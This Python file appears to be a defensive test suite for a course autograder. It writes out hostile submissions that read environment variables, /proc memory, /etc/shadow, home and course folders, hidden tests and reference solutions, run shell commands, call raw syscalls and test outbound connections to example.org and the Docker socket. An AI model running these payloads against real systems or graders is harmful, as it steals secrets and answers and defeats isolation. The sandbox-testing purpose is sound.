"""What is none of the learner's business, read and told by all means: print and an error's message."""

from attacks import attack

TELL = """
texts = map(str, found)  # what a verdict shows may be cut: the secrets come first
parts = [text[max(0, text.find("canary")) :][:2_000] for text in texts]
found = sorted(parts, key=lambda part: not part.startswith("canary"))

def rnn_step(*arguments):
    print("FOUND", found)
    raise ValueError(f"FOUND {found}")

print("FOUND", found)
"""
LOOK = """
import glob, os
found = []

def look(*places):
    for pattern in places:
        for place in glob.glob(pattern) or [pattern]:
            try:
                found.append(open(place, "rb").read(200_000).decode(errors="replace"))
            except Exception as problem:
                found.append(type(problem).__name__)
"""

attack(
    "reads the environment",
    "looks for passwords among the grader's variables, its own and other processes'",
    rnn_step=LOOK + "found.append(dict(os.environ))\nlook('/proc/*/environ', '/proc/self/environ')\n" + TELL,
)
attack(
    "reads other processes",
    "looks into other processes' memory, maps and open files",
    rnn_step=LOOK
    + "look('/proc/*/cmdline', '/proc/*/maps', '/proc/*/mem', '/proc/*/fd/*', '/proc/*/root/HOME/*')\n"
    + TELL,
)
attack(
    "reads the grader's home",
    "looks for keys and notes in the home folder",
    rnn_step=LOOK + "look('HOME/*', 'HOME/.*', os.path.expanduser('~/*'), '/etc/shadow')\n" + TELL,
)
attack(
    "reads the course's folder",
    "looks for sources, hidden tests, the gradebook and what others have handed in",
    rnn_step=LOOK
    + "look('COURSE/*', 'COURSE/*/*', 'COURSE/*/*/*', 'COURSE/*/*/*/*', './*', '../*')\n"
    + TELL,
    plain=True,
)
attack(
    "reads the reference solutions",
    "imports them, and by the file's path too",
    rnn_step=LOOK
    + """
import importlib, importlib.util, sys
for name in ("helpers.reference.forward_loop", "helpers.lessons.forward_loop", "helpers.checking.judge"):
    try: found.append(importlib.import_module(name).__name__)
    except Exception as problem: found.append(type(problem).__name__)
for top in {*sys.path, "REPOSITORY"}:
    look(top + "/helpers/reference/*.py", top + "/helpers/lessons/*.py", top + "/solutions/*/*.py")
    try:
        spec = importlib.util.spec_from_file_location("f", top + "/helpers/reference/forward_loop.py")
        module = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(module)
        right = module.rnn_step
    except Exception as problem: found.append(type(problem).__name__)
"""
    + TELL
    + """
def rnn_step(*arguments):
    return right(*arguments)
""",
)
attack(
    "calls out",
    "sends what it found to a machine of its own",
    rnn_step=LOOK
    + """
import socket, urllib.request
for call in (
    lambda: socket.create_connection(("127.0.0.1", 22), 1).recv(10),
    lambda: socket.create_connection(("1.1.1.1", 53), 1),
    lambda: urllib.request.urlopen("http://example.org", timeout=1).read(),
    lambda: socket.socket(socket.AF_UNIX).connect("/var/run/docker.sock"),
    lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW),
):
    try: found.append(("REACHED", call()))
    except Exception as problem: found.append(type(problem).__name__)
"""
    + TELL,
)
attack(
    "runs commands",
    "has a shell look around",
    rnn_step="""
!env; cat COURSE/*
found = []
try:
    found += [get_ipython().getoutput("env; cat HOME/* COURSE/*")]
except Exception as problem: found.append(type(problem).__name__)
try:
    get_ipython().run_line_magic("sx", "cat HOME/*")
except Exception as problem: found.append(type(problem).__name__)
"""
    + TELL,
)
attack("runs bash", "makes the answer's cell one of bash", rnn_step="%%bash\nenv\ncat COURSE/* HOME/*\n")
attack(
    "debugs other processes",
    "reads other processes' memory by system calls that Python does not offer",
    rnn_step=LOOK
    + """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
room = ctypes.create_string_buffer(4096)
for pid in (1, os.getppid(), os.getpid() - 1):
    for call in (101, 310, 312, 434, 438, 424, 272, 308, 165, 321, 323, 319, 425, 103):
        if libc.syscall(call, pid, room, 1, room, 1, 0) >= 0:
            found.append(("REACHED", call))
"""
    + TELL,
)
attack(
    "looks through open files",
    "reads and writes whatever the grader left open",
    rnn_step=LOOK
    + """
import stat
for number in range(1024):
    try: mode = os.fstat(number).st_mode
    except OSError: continue
    if stat.S_ISREG(mode) or stat.S_ISDIR(mode) or stat.S_ISFIFO(mode):
        found.append(("REACHED", number, mode))
"""
    + TELL,
)
